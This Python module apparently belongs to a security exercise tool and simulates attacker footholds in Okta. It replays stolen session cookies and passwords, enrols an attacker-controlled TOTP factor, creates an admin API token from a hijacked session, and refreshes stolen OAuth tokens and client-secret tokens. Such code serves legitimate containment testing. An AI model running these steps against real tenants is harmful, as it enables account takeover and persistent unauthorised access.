"""What an attacker does with Okta: a stolen cookie and the password behind it, an OAuth token, a service app's secret.

Where a session still opens, they dig in: a factor of their own on the account, an API token where the account administers.
"""

from __future__ import annotations

import aiohttp

from firedoor.exercise.attack.foothold import Foothold, Loot


class StolenSession(Foothold):
    """An Okta session cookie, and the password behind it. Signs in again where the cookie is dead, and enrols a factor where it is not."""

    def __init__(self, http: aiohttp.ClientSession, login: str, loot: Loot) -> None:
        self.name = f"okta session of {login}"
        self._http = http
        self._url = loot["okta_url"].rstrip("/")
        self._login = login
        self._password = loot["passwords"][login]
        self._sid = loot["sessions"][login]
        self._factor = False

    async def use(self) -> str:
        """The cookie, or a new sign-in."""
        if await self._works():
            await self._dig_in()
            return "session"
        token = await self._json("/api/v1/authn", {"username": self._login, "password": self._password}, "sessionToken")
        fresh = await self._json("/api/v1/sessions", {"sessionToken": token}, "id") if token else ""
        if not fresh:
            return ""
        self._sid = fresh
        return "signed in again" if await self._works() else ""

    async def _dig_in(self) -> None:
        if not self._factor:
            body = {"factorType": "token:software:totp", "provider": "GOOGLE"}
            async with self._http.post(f"{self._url}/api/v1/users/me/factors", json=body, headers=self._cookie) as reply:
                self._factor = reply.status == 200

    async def _works(self) -> bool:
        async with self._http.get(f"{self._url}/api/v1/sessions/me", headers=self._cookie) as reply:
            return reply.status == 200

    @property
    def _cookie(self) -> dict[str, str]:
        return {"Cookie": f"sid={self._sid}"}

    async def _json(self, path: str, body: dict[str, str], wanted: str) -> str:
        async with self._http.post(self._url + path, json=body) as reply:
            return str((await reply.json())[wanted]) if reply.status == 200 else ""


class MadeApiToken(Foothold):
    """An API token that the attacker makes in the Admin Console, from the stolen session of an administrator."""

    def __init__(self, http: aiohttp.ClientSession, login: str, loot: Loot) -> None:
        self.name = f"okta api token made as {login}"
        self._http = http
        self._url = loot["okta_url"].rstrip("/")
        self._sid = loot["sessions"][login]
        self._token = ""

    async def use(self) -> str:
        """The token, made first where there is none yet."""
        if not self._token:
            headers = {"Cookie": f"sid={self._sid}"}
            async with self._http.post(f"{self._url}/api/internal/tokens", json={"name": "backup"}, headers=headers) as reply:
                if reply.status != 200:
                    return ""
                self._token = str((await reply.json())["token"])
        async with self._http.get(f"{self._url}/api/v1/users/me", headers={"Authorization": f"SSWS {self._token}"}) as reply:
            return "api token" if reply.status == 200 else ""


class StolenToken(Foothold):
    """An OAuth access token, and the refresh token it came with."""

    def __init__(self, http: aiohttp.ClientSession, loot: Loot) -> None:
        self.name = f"oauth token of {loot['oauth']['login']}"
        self._http = http
        self._url = loot["okta_url"].rstrip("/")
        self._refresh = loot["oauth"]["refresh"]
        self._access = loot["oauth"]["access"]

    async def use(self) -> str:
        """The access token, or a fresh one."""
        if await self._works():
            return "access token"
        form = {"grant_type": "refresh_token", "refresh_token": self._refresh}
        async with self._http.post(f"{self._url}/oauth2/v1/token", data=form) as reply:
            if reply.status != 200:
                return ""
            fresh = await reply.json()
        self._access, self._refresh = fresh["access_token"], fresh.get("refresh_token", self._refresh)
        return "refreshed" if await self._works() else ""

    async def _works(self) -> bool:
        async with self._http.get(f"{self._url}/oauth2/v1/userinfo", headers={"Authorization": f"Bearer {self._access}"}) as reply:
            return reply.status == 200


class StolenClient(Foothold):
    """The client secret of a service app: another access token for it each time, and its use."""

    def __init__(self, http: aiohttp.ClientSession, loot: Loot) -> None:
        self.name = f"service app {loot['app']['label']}"
        self._http = http
        self._loot = loot

    async def use(self) -> str:
        """A new token, used."""
        access = await new_token(self._http, self._loot)
        return "client secret" if access and await works(self._http, self._loot, access) else ""


class KeptToken(Foothold):
    """One access token of the service app, got at the beginning and kept. Nothing in Okta ends it; a defender can only tell of it."""

    def __init__(self, http: aiohttp.ClientSession, loot: Loot) -> None:
        self.name = loot["app"]["label"]
        self._http = http
        self._loot = loot
        self._access = ""

    async def use(self) -> str:
        """The token, as long as it lives."""
        self._access = self._access or await new_token(self._http, self._loot)
        return "access token" if self._access and await works(self._http, self._loot, self._access) else ""


async def new_token(http: aiohttp.ClientSession, loot: Loot) -> str:
    """An access token for the stolen client secret; empty where Okta gives none."""
    app = loot["app"]
    form = {"grant_type": "client_credentials", "client_id": app["id"], "client_secret": app["secret"], "scope": "okta.users.read"}
    async with http.post(f"{loot['okta_url'].rstrip('/')}/oauth2/v1/token", data=form) as reply:
        return str((await reply.json())["access_token"]) if reply.status == 200 else ""


async def works(http: aiohttp.ClientSession, loot: Loot, access: str) -> bool:
    """Whether a service that asks Okta about the token takes it."""
    async with http.post(f"{loot['okta_url'].rstrip('/')}/oauth2/v1/introspect", data={"token": access}) as reply:
        return reply.status == 200 and bool((await reply.json())["active"])
